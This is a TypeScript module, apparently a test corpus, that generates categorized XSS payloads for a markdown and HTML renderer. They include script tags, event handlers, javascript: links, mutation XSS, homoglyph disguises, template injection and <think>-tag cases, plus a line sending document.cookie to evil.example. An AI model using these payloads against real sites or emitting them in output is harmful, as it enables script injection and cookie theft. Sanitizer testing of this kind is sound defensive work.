/** Attacks by their kind. What runs sets `window.xss`, opens a dialog, or calls evil.example; all that is watched. */
type Payloads = readonly string[]

const run = 'window.xss=1'
const evil = 'https://evil.example'
const each = (makers: readonly ((part: string) => string)[], parts: Payloads): Payloads =>
  makers.flatMap((make) => parts.map(make))

const image = `<img src=x onerror=${run}>`
const bodies = [run, 'alert(1)', `fetch('${evil}/'+document.cookie)`, "open('//evil.example')"]

const scriptTags = each(
  [
    (body) => `<script>${body}</script>`,
    (body) => `<SCRipt/x>${body}</SCRipt >`,
    (body) => `<script\n>${body}</script\n>`,
    (body) => `<scr<script>ipt>${body}</scr</script>ipt>`,
    (body) => `"'><script>${body}</script>`,
    (body) => `</title></textarea></style><script>${body}</script>`,
    (body) => `<!--><script>${body}</script>-->`,
    (body) => `<![CDATA[><script>${body}</script>]]>`,
    (body) => `<svg><script>${body}</script></svg>`,
    (body) => `<iframe srcdoc="<script>parent.${body}</script>"></iframe>`,
    (body) => `- item\n  <script>${body}</script>`,
    (body) => `| a |\n| --- |\n| <script>${body}</script> |`,
  ],
  bodies,
).concat(
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>import('//evil.example/x.js')</script>`,
  `<script type=importmap>{"imports":{"react":"${evil}/x.js"}}</script>`,
)

const events = [
  (handler: string) => `<img src=x onerror=${handler}>`,
  (handler: string) => `<svg onload=${handler}>`,
  (handler: string) => `<body onload=${handler} onpageshow=${handler}>`,
  (handler: string) => `<input autofocus onfocus=${handler}>`,
  (handler: string) => `<select autofocus onfocus=${handler}></select>`,
  (handler: string) => `<details open ontoggle=${handler}><summary>x</summary></details>`,
  (handler: string) => `<video><source src=x onerror=${handler}></video>`,
  (handler: string) => `<audio src=x onerror=${handler}></audio>`,
  (handler: string) => `<iframe onload=${handler}></iframe>`,
  (handler: string) => `<object data=x onerror=${handler}></object>`,
  (handler: string) => `<style onload=${handler}></style>`,
  (handler: string) => `<link rel=stylesheet href=x onerror=${handler}>`,
  (handler: string) => `<marquee onstart=${handler}>x</marquee>`,
  (handler: string) => `<x contenteditable autofocus tabindex=1 onfocus=${handler}>x</x>`,
  (handler: string) => `<a href=# onclick=${handler} onpointerover=${handler}>x</a>`,
  (handler: string) => `<p style="animation:x" onanimationstart=${handler}>x</p>`,
]
const eventHandlers = each(events, [run, `"${run}"`, "'alert(1)'", 'alert`1`']).concat(
  `<img/src=x/onerror=${run}>`,
  `<img src=x\nonerror=${run}\n>`,
  `<img src="x\`" onerror="${run}">`,
  `<IMG """><IMG SRC=x onerror=${run}>">`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
)

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `jav&Tab;ascript:${run}`,
  `java&NewLine;script:${run}`,
  `javascript://evil.example/%0a${run}`,
  `javascript:${run}//https://evil.example`,
  `\\javascript:${run}`,
  `%6Aavascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https://evil.example/1`,
  `view-source:javascript:${run}`,
  `//evil.example/x`,
]
const links = each(
  [
    (address) => `[x](${address})`,
    (address) => `[x](<${address}>)`,
    (address) => `[x][1]\n\n[1]: ${address}`,
    (address) => `<${address}>`,
    (address) => `<a href="${address}" target=_blank>x</a>`,
    (address) => `![x](${address})`,
    (address) => `[![x](${address})](${address} "x")`,
    (address) => `x[^1]\n\n[^1]: [x](${address})`,
    (address) => `> | x |\n> | - |\n> | [x](${address}) |`,
    (address) => `<iframe src="${address}"></iframe>`,
    (address) => `<form action="${address}"><input type=submit value=x></form>`,
  ],
  schemes,
)

const remoteContent = [
  `![x](${evil}/p.png)`,
  `![x](${evil}/p.png "title")`,
  `![x][p]\n\n[p]: ${evil}/p.png`,
  `![](//evil.example/p.png)`,
  `![x](data:image/png;base64,iVBORw0KGgo=)`,
  `[![x](${evil}/p.png)](${evil})`,
  `<img src=${evil}/p.png>`,
  `<img srcset="${evil}/p.png 1x, ${evil}/q.png 2x">`,
  `<picture><source srcset=${evil}/p.png><img></picture>`,
  `<video poster=${evil}/p.png src=${evil}/v.mp4 autoplay></video>`,
  `<video><track default src=${evil}/t.vtt></video>`,
  `<audio src=${evil}/a.mp3 autoplay></audio>`,
  `<link rel=prefetch href=${evil}/x>`,
  `<link rel=dns-prefetch href=//evil.example>`,
  `<link rel=preconnect href=${evil}>`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<style>@import url(${evil}/x.css);</style>`,
  `<p style="background:url(${evil}/p.png)">x</p>`,
  `<input type=image src=${evil}/p.png>`,
  `<table background=${evil}/p.png><td>x</table>`,
  `<object data=${evil}/x.swf></object>`,
  `<embed src=${evil}/x.swf>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href=${evil}/>`,
  `<svg><image href=${evil}/p.png /></svg>`,
  `<svg><use href="${evil}/x.svg#x"/></svg>`,
  `<a href=${evil} ping=${evil}/ping>x</a>`,
  `<portal src=${evil}></portal>`,
  `<frameset><frame src=${evil}></frameset>`,
  `${evil}/p.png`,
  `www.evil.example/p.png`,
  `<${evil}/p.png>`,
  `<mail@evil.example>`,
]

const formulas = each(
  [
    (tex) => `$${tex}$`,
    (tex) => `$$${tex}$$`,
    (tex) => `\\(${tex}\\)`,
    (tex) => `\\[\n${tex}\n\\]`,
    (tex) => `\`\`\`math\n${tex}\n\`\`\``,
  ],
  [
    `\\href{javascript:${run}}{x}`,
    `\\url{javascript:${run}}`,
    `\\includegraphics{${evil}/p.png}`,
    `\\htmlData{x=1, onclick=${run}}{x}`,
    `\\htmlStyle{background:url(${evil}/p.png)}{x}`,
    `\\htmlId{root}{x}`,
    `\\htmlClass{modal}{x}`,
    `\\text{${image}}`,
    `\\textcolor{red;background:url(${evil}/p.png)}{x}`,
    `\\colorbox{url(${evil}/p.png)}{x}`,
    `\\unicode{x3c}\\verb|${image}|`,
    `\\def\\x{\\x\\x}\\x`,
  ],
)

const fences = each(
  [
    (info) => `\`\`\`${info}\n${image}\n\`\`\``,
    (info) => `~~~${info}\n${image}`,
    (info) => `- x\n  \`\`\`${info}\n  ${image}\n  \`\`\``,
  ],
  [
    `<script>${run}</script>`,
    `"><img/src=x/onerror=${run}>`,
    `html onload=${run}`,
    '__proto__',
    'constructor',
    'xml',
    `js {onclick="${run}"}`,
    'mermaid',
    'svg',
  ],
)

const mutations = each(
  [
    (bad) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${bad}">`,
    (bad) => `<svg></p><style><a id="</style>${bad}">`,
    (bad) => `<form><math><mtext></form><form><mglyph><style></math>${bad}`,
    (bad) => `<noscript><p title="</noscript>${bad}">`,
    (bad) => `<math><annotation-xml encoding="text/html"><style>${bad}</style>`,
    (bad) => `<svg><foreignObject><p><style><!--</style>${bad}--></svg>`,
    (bad) => `<template><b><template><b>${bad}`,
    (bad) => `<xmp><p title="</xmp>${bad}">`,
    (bad) => `<select><template><style><!--</style><a rel="--></style></template></select>${bad}">`,
    (bad) => `<listing>&lt;${bad.slice(1)}</listing>`,
    (bad) => `<option><style></option></select>${bad}</style>`,
  ],
  [image, `<svg onload=${run}>`],
)

const disguises = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&#x3C;svg onload=${run}&#x3E;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  `＜img src=x onerror=${run}＞`,
  `<\u200bimg src=x onerror=${run}>`,
  `<img\u2028src=x\u2028onerror=${run}>`,
  `<img\u00a0src=x onerror=${run}>`,
  `<ſcript>${run}</ſcript>`,
  `\u202e<img src=x onerror=${run}>\u202c`,
  `<img src=x on\ufefferror=${run}>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `[аррӏе.com](https://аррӏе.com)`,
  `[https://bank.example](${evil})`,
  `[x](https://bank.example@evil.example)`,
  `[x](https://evil.example\\@bank.example)`,
  `[x](${evil}/\u202egnp.exe)`,
]

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `\${${run}}`,
  '${alert`1`}',
  `\`\${${run}}\``,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{@html '${image}'}`,
  `<p v-html="'${image}'">x</p>`,
  `<p ng-app ng-init="constructor.constructor('${run}')()">x</p>`,
  `<p x-data x-init="${run}">x</p>`,
  `<p hx-get="${evil}" hx-trigger=load>x</p>`,
  `<slot><p is="x-y" onclick=${run}>x</p></slot>`,
  `{"$$typeof":"react.element","props":{"dangerouslySetInnerHTML":{"__html":"${image}"}}}`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"${image}"}}}`,
  `<p id=root name=trustedTypes>x</p><form name=petals><input name=attributes></form>`,
]

const brokenMarkdown = [
  `[x](javascript:${run}`,
  `[x](<javascript:${run}`,
  `![x](javascript:${run}`,
  `[x]: javascript:${run}\n[x]`,
  `**${image}**`,
  `~~${image}~~`,
  `# ${image}`,
  `\`<img src=x onerror=${run}>`,
  `\`\`\`\n\`\`\`\n${image}`,
  `[${image}](${evil})`,
  `![${image}](x)`,
  `![x](x "onerror=${run}")`,
  `[x](${evil} "onmouseover=${run}")`,
  `[x](${evil}"onclick="${run})`,
  `[x](${evil}'onclick='${run})`,
  `[x]('javascript:${run}')`,
  `[a](<b>${image})`,
  `<${evil}"onmouseover="${run}">`,
  `<p markdown=1>[x](javascript:${run})</p>`,
  `- [ ] ${image}`,
  `1. ${image}\n   ${image}`,
  `[^x]: ${image}\n\nx[^x]`,
  `[^<img src=x onerror=${run}>]: x`,
  `a | b\n- | -\n${image} | x`,
  `---\ntitle: ${image}\n---`,
  `<!-- ${image} -->${image}`,
  `<?xml version="1.0"?>${image}`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "${evil}">]>&x;`,
]

const thoughts = [
  `<think>${image}</think>${image}`,
  `<think>\n[x](javascript:${run})\n![x](${evil}/p.png)`,
  `<think><script>${run}</script></think></think>x`,
  `</think>${image}<think>`,
]

/** Around and in the tags of HTML that are drawn. */
const drawnTags = each(
  [
    (name) => `<${name} onclick=${run}>x</${name}>`,
    (name) => `<${name} style="background:url(${evil})" id=root>x</${name}>`,
    (name) => `<${name}/onpointerover=${run}>x</${name}>`,
    (name) => `<${name}>${image}</${name}>`,
    (name) => `<${name}><script>${run}</script></${name}>`,
    (name) => `<${name}\nautofocus onfocus=${run}>x</${name}>`,
    (name) => `x <${name}>[y](javascript:${run})</${name}>`,
  ],
  ['sub', 'kbd', 'mark', 'u', 'details', 'summary'],
).concat(
  `<details open ontoggle=${run}>\n<summary>x</summary>\n</details>`,
  `<details>\n<summary>${image}</summary>\n\n${image}\n\n</details>`,
  `<details><summary onclick=${run}>x</summary></details>`,
  `<details>`.repeat(50) + image,
  `<sub>`.repeat(50) + image,
  `<details>\n<summary>\n<iframe src="${evil}">\n</summary>\n</details>`,
  `- <details>\n  <summary>x</summary>\n  <svg onload=${run}>\n  </details>`,
  `<br onload=${run}><br/onload=${run}>x<br>${image}`,
  `<kbd></kbd onclick=${run}>`,
  `<sub><sup>${image}</sub></sup>`,
  `[^a]: <details open>${image}</details>\n\nx[^a]`,
  `| x |\n| - |\n| <sub>${image}</sub><br onclick=${run}> |`,
  `[^root]: x\n\n[^root] [^__proto__]\n\n[^__proto__]: ${image}`,
)

/** By kind, so that a sample can take of each. */
export const xssPayloads: Readonly<Record<string, Payloads>> = {
  scriptTags,
  eventHandlers,
  links,
  remoteContent,
  formulas,
  fences,
  mutations,
  disguises,
  templates,
  brokenMarkdown,
  thoughts,
  drawnTags,
}
